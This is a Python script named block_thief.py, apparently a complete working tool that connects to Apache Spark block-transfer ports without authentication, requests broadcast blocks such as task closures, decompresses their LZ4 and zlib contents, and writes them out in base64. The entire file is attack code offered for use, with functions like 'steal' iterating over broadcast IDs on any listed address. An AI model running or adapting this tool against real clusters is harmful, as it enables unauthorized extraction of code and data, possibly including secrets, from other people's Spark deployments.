"""
Asks Spark's ports for the blocks of broadcasts, as any process of the machine can; a program of its own.

It speaks Spark's block transfer protocol without its authentication and needs no package::

    python block_thief.py ADDRESS:PORT...

It writes each block that it gets to stdout, in base64, one a line.  A task's closure is such a block
(`broadcast_N_piece0`).  `uncovered` returns the texts in one, through the compression of Spark and of `pack_spec`.
"""

from __future__ import annotations

import base64
import contextlib
import socket
import struct
import sys
import zlib

_MOST_BROADCASTS = 64
_SECONDS = 3.0

# types of messages of org.apache.spark.network.protocol.Message
_CHUNK_REQUEST, _CHUNK, _REQUEST, _RESPONSE = 0, 1, 3, 4
_OPEN_BLOCKS = 0
_MAGIC = b"LZ4Block"
_RAW = 0x10
# a length that further bytes continue, and a byte that another one follows
_LONG, _MORE = 15, 255


def steal(address: str, port: int, name: str) -> bytes | None:
    """
    Returns a block of the process that listens there.

    It is empty if the process has no such block, and None if it answers nothing at all.
    """
    try:
        with socket.create_connection((address, port), _SECONDS) as peer:
            texts = b"".join(_text(text) for text in ("app", "driver"))
            body = struct.pack(">B", _OPEN_BLOCKS) + texts + struct.pack(">i", 1) + _text(name)
            _send(peer, _REQUEST, struct.pack(">qi", 1, len(body)) + body)
            kind, answer = _receive(peer)
            if kind != _RESPONSE:
                return b""
            # id of the request, length of the body, type of the message, stream
            (stream,) = struct.unpack_from(">q", answer, 8 + 4 + 1)
            _send(peer, _CHUNK_REQUEST, struct.pack(">qi", stream, 0))
            kind, answer = _receive(peer)
            return answer[8 + 4 :] if kind == _CHUNK else b""
    except (OSError, struct.error):
        return None


def uncovered(block: bytes) -> bytes:
    """Returns the content of a block, followed by that of every zlib stream in it."""
    content = _decompressed(block) if block.startswith(_MAGIC) else block
    found = [content]
    place = content.find(b"\x78\x01")
    while place >= 0:
        with contextlib.suppress(zlib.error):
            found.append(zlib.decompressobj().decompress(content[place:]))
        place = content.find(b"\x78\x01", place + 1)
    return b"\n".join(found)


def _text(text: str) -> bytes:
    return struct.pack(">i", len(text)) + text.encode()


def _send(peer: socket.socket, kind: int, rest: bytes) -> None:
    peer.sendall(struct.pack(">qB", 9 + len(rest), kind) + rest)


def _receive(peer: socket.socket) -> tuple[int, bytes]:
    (length,) = struct.unpack(">q", _exactly(peer, 8))
    frame = _exactly(peer, length - 8)
    return frame[0], frame[1:]


def _exactly(peer: socket.socket, size: int) -> bytes:
    found = b""
    while len(found) < size:
        more = peer.recv(min(size - len(found), 1 << 20))
        if not more:
            raise ConnectionError
        found += more
    return found


def _decompressed(block: bytes) -> bytes:
    """Returns the content of the LZ4 frames that Spark writes."""
    found, place = b"", 0
    while block[place : place + 8] == _MAGIC:
        method, size, _, _ = struct.unpack_from("<Biii", block, place + 8)
        place += 8 + 13
        data = block[place : place + size]
        found += data if method & 0xF0 == _RAW else _lz4(data)
        place += size
    return found


def _lz4(data: bytes) -> bytes:
    """Returns the content of an LZ4 block."""
    found, place = bytearray(), 0

    def length(nibble: int) -> int:
        nonlocal place
        total = nibble
        more = _MORE if nibble == _LONG else 0
        while more == _MORE:
            more = data[place]
            place += 1
            total += more
        return total

    while place < len(data):
        token = data[place]
        place += 1
        size = length(token >> 4)
        found += data[place : place + size]
        place += size
        if place >= len(data):
            break
        back = int.from_bytes(data[place : place + 2], "little")
        place += 2
        for _ in range(length(token & 15) + 4):
            found.append(found[-back])
    return bytes(found)


if __name__ == "__main__":
    for where, _, number in (each.rpartition(":") for each in sys.argv[1:]):
        for broadcast in range(_MOST_BROADCASTS):
            block = steal(where, int(number), f"broadcast_{broadcast}_piece0")
            if block is None:
                break
            if block:
                sys.stdout.write(base64.b64encode(block).decode() + "\n")
